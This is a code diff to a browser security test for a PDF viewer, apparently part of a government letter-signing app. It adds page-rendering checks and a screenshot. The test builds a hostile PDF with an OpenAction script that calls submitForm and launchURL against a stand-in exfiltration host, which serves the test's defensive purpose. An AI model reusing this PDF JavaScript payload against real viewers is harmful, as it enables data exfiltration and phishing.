@@ -4,6 +4,7 @@
 // violation, the page really drawn), and clicking the link area only shows the target: no
 // dialog, the app's URL unchanged, no request and no tab towards the link's or the scripts' hosts.
 // The same run checks that user text holding right-to-left letters is isolated in a <bdi>.
+import { join } from 'node:path';
 import { PDFDocument, PDFName, PDFString, type PDFDict } from 'pdf-lib';
 import type { Browser, Page, Request } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -11,7 +12,7 @@ import { joinDocument } from '../../src/pades/complete.js';
 import { signPdf } from '../../src/pades/sign.js';
 import { HEALTH_DEPT, type Harness } from '../http/harness.js';
 import { fixtureSigner, sampleLetter } from '../support/fixtures.js';
-import { launchChromium, sendFromProvince, signIn, startUiServer, type Session, type UiServer } from './browser.js';
+import { launchChromium, screenshotDir, sendFromProvince, signIn, startUiServer, type Session, type UiServer } from './browser.js';
 
 /** Hosts the hostile PDF points at (.invalid: never resolvable, RFC 6761). */
 const PHISH = 'phish.invalid';
@@ -22,7 +23,7 @@ const LINK_RECT = [72, 640, 420, 720] as const;
 
 /** The sample letter with PDF JavaScript and a /URI link added, then signed and sealed like any letter. */
 async function hostileLetter(): Promise<Uint8Array> {
-  const doc = await PDFDocument.load((await sampleLetter()).pdf);
+  const doc = await PDFDocument.load((await sampleLetter({ extraPages: 2 })).pdf);
   const ctx = doc.context;
   const js = (code: string) => ctx.register(ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) }));
   doc.catalog.set(PDFName.of('OpenAction'), js(`app.alert("openaction ran"); this.submitForm("http://${EXFIL}/submit"); app.launchURL("http://${EXFIL}/launch", true);`));
@@ -115,6 +116,10 @@ describe('PDF viewer: nothing in a sent PDF acts on the app', () => {
     // The letter's text really is drawn (a blank canvas would pass every safety check).
     expect(await nonWhitePixels(page)).toBeGreaterThan(2000);
     expect(seen.requests.filter((u) => u.includes('/vendor/pdfjs/pdf.worker.min.mjs')).length).toBe(1);
+    // Every page is laid out; the last is drawn once it is scrolled into view.
+    await expect.poll(() => page.locator('.pdf-page').count()).toBe(3);
+    await page.locator('[data-page="3"]').scrollIntoViewIfNeeded();
+    await page.locator('[data-page="3"][data-rendered="yes"]').waitFor({ timeout: 30_000 });
     expect(seen.csp).toEqual([]);
     expect(seen.errors).toEqual([]);
     const csp = (await page.request.get(`${base}/`)).headers()['content-security-policy'] ?? '';
@@ -137,6 +142,7 @@ describe('PDF viewer: nothing in a sent PDF acts on the app', () => {
     const y = box.y + (pageSize.height - (LINK_RECT[1] + LINK_RECT[3]) / 2) * scale;
     await page.mouse.click(x, y);
     await expect.poll(() => page.getByTestId('pdf-link-target').textContent()).toBe(LINK);
+    await page.getByTestId('pdf-view').screenshot({ path: join(screenshotDir(), 'pdf-viewer-link-shown.png') });
     // Give anything the click might have started time to show.
     await page.waitForTimeout(1500);
     expect(page.url()).toBe(before);
